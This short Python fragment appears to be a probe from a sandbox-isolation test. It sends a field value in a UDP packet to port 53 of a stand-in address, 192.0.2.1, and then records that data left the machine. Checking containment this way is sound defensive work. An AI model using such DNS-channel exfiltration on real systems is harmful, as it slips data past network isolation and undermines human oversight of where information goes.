"""Smuggles data out in a question to a name server.

Success: the packet can be sent.
Succeeds: without isolation, where there is a network
"""

import socket

AF_UNSPEC = 0
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
    sock.connect(("192.0.2.1", 53))
    sock.send(FIELD["name"].encode())
claim("sent a packet off the machine")
